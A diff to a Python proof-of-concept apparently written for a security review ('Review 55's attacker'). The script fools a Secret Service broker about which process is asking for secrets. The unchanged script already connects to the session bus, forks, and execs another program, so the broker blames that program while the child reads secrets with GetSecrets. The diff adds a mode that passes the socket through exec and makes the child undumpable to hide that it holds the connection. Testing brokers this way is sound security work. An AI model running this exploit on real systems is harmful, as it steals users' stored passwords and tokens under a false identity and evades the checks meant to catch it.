@@ -1,9 +1,11 @@
 #!/usr/bin/python3
 """Review 55's attacker: a bus connection whose connecting process then runs another program.
 
-  exec_after_connect.py [--read-first] KEY=VALUE PROGRAM ARGS...
+  exec_after_connect.py [--read-first | --inherit-hidden] KEY=VALUE PROGRAM ARGS...
       Connects to the session bus (Hello) (with --read-first, asks for the secrets once, as
-      itself, before going on: the service has then looked at who it is), forks, and the
+      itself, before going on: the service has then looked at who it is; with --inherit-hidden,
+      lets the connection's descriptor through the exec, so that PROGRAM holds it, and the child
+      makes itself undumpable, so that the service cannot see that it holds it too), forks, and the
       connecting process execs PROGRAM with
       its output thrown away; the child, holding the same connection, waits for the exec and then
       asks the Secret Service for the secrets of the items KEY=VALUE finds (GetSecrets, plain
@@ -11,6 +13,7 @@
 The service asks the bus who made the connection (GetConnectionCredentials) and relays that
 process to the broker: PROGRAM, not this script that sends every call.
 """
+import ctypes
 import os
 import sys
 import time
@@ -29,7 +32,8 @@ def get_secrets(conn, service, key, value):
 def main():
     args = sys.argv[1:]
     read_first = args[0] == '--read-first'
-    if read_first:
+    inherit_hidden = args[0] == '--inherit-hidden'
+    if read_first or inherit_hidden:
         args = args[1:]
     key, value = args[0].split('=', 1)
     program = args[1:]
@@ -38,6 +42,8 @@ def main():
                           interface='org.freedesktop.Secret.Service')
     if read_first:
         get_secrets(conn, service, key, value)
+    if inherit_hidden:
+        os.set_inheritable(conn.sock.fileno(), True)
     ready_r, ready_w = os.pipe()  # both close-on-exec: EOF in the child once the parent exec'd
     pid = os.fork()
     if pid:
@@ -47,6 +53,9 @@ def main():
             os.dup2(null, fd)
         os.execv(program[0], program)
     os.close(ready_w)
+    if inherit_hidden:
+        PR_SET_DUMPABLE = 4
+        ctypes.CDLL(None, use_errno=True).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
     os.read(ready_r, 1)
     parent = os.getppid()
     for _ in range(100):
